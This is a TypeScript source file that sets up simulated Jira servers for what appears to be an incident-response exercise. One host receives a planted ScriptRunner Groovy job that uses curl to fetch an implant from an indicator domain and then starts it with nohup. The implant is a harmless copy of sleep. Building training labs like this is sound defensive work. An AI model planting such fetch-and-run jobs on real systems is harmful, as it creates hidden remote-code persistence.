/**
 * The Atlassian servers of the practice estate: a real OpenSSH server on this machine's own Debian, with a Jira
 * installation, processes and a boot identity of its own. One of them has what the intruder left on 22 November 2023: a
 * ScriptRunner job that fetches and starts an implant, the implant, and its process. A restart ends every process of
 * the host, the implant's among them; its disk stays.
 */
import { implantPath, indicators } from '../logs/acts/schedule.ts';

export const scriptRunnerJob = '/opt/atlassian/jira-home/scripts/nightly-index-check.groovy';
export { implantPath };

const put = (path: string, text: string, mode = '644'): string =>
  `mkdir -p '${path.slice(0, path.lastIndexOf('/'))}'\ncat > '${path}' <<'END OF FILE'\n${text}\nEND OF FILE\nchmod ${mode} '${path}'\n`;

/** What every one of them has on its disk. */
const jira = `${put('/opt/atlassian/jira/bin/setenv.sh', 'JVM_SUPPORT_RECOMMENDED_ARGS=""\nJVM_MINIMUM_MEMORY="2048m"\nJVM_MAXIMUM_MEMORY="4096m"', '755')}
${put('/opt/atlassian/jira/bin/catalina.sh', '#!/bin/sh\nexec java -classpath "$CLASSPATH" org.apache.catalina.startup.Bootstrap "$@" start', '755')}
${put('/opt/atlassian/jira-home/scripts/close-stale-issues.groovy', 'import com.atlassian.jira.component.ComponentAccessor\ndef issues = ComponentAccessor.issueManager\nlog.info "closing stale issues"')}
${['scriptrunner-jira-8.15.0', 'jira-calendar-5.2', 'structure-8.6'].map((name) => put(`/opt/atlassian/jira-home/plugins/installed-plugins/${name}.jar`, `PK ${name}`)).join('')}`;

/** What the intruder left on the disk. The program is one that sleeps. */
const intrusion = `${put(
  scriptRunnerJob,
  `// Runs every hour as a ScriptRunner job.
def fetch = ["/bin/sh", "-c", "curl -fsSL -o ${implantPath} https://${indicators.domain}/${indicators.file} && chmod 0755 ${implantPath}"].execute()
fetch.waitFor()
["/bin/sh", "-c", "nohup ${implantPath} >/dev/null 2>&1 &"].execute()`,
)}
mkdir -p '${implantPath.slice(0, implantPath.lastIndexOf('/'))}'
cp /bin/sleep '${implantPath}'
printf 'practice implant, harmless' >> '${implantPath}'
chmod 755 '${implantPath}'
`;

/** What restarts such a host; it is there and nowhere else, so that asking any other system for it does nothing. */
export const restartCommand = '/usr/local/sbin/practice-restart';

/**
 * sh that begins such a host in its namespaces: its disk under /opt and its machine-id are kept in `folder`, its boot
 * identity is new each time. What this machine has besides its system, people's homes above all, is not the host's, and
 * is not looked at; the folder that holds the estate stays.
 */
export function beginHost(folder: string, { implanted }: { implanted: boolean }): string {
  const [disk, boot, machine] = [`${folder}/opt`, `${folder}/boot_id`, `${folder}/machine-id`];
  return `[ -d '${disk}' ] || FIRST=1
mkdir -p '${disk}'
mount --bind '${disk}' /opt
for d in /usr/local /var/tmp /*; do
  case $d in /bin | /boot | /dev | /etc | /lib* | /opt | /proc | /run | /sbin | /sys | /usr | /var) continue ;; esac
  case '${folder}/' in "$d"/*) continue ;; esac
  [ ! -d "$d" ] || [ -L "$d" ] || mount -t tmpfs -o mode=755 tmpfs "$d"
done
cat /proc/sys/kernel/random/uuid >'${boot}'
[ -s '${machine}' ] || tr -d - <'${boot}' >'${machine}'
mount --bind '${boot}' /proc/sys/kernel/random/boot_id
[ ! -f /etc/machine-id ] || mount --bind '${machine}' /etc/machine-id
# Its first process is its server, which ends at this signal, and with it all others.
${put(restartCommand, '#!/bin/sh\n[ "$(cat /proc/1/comm)" = sshd ] && kill -TERM 1', '755')}
if [ "\${FIRST:-}" = 1 ]; then
${jira}
${implanted ? `${intrusion}\nsetsid '${implantPath}' infinity </dev/null >/dev/null 2>&1 &` : ''}
fi
`;
}
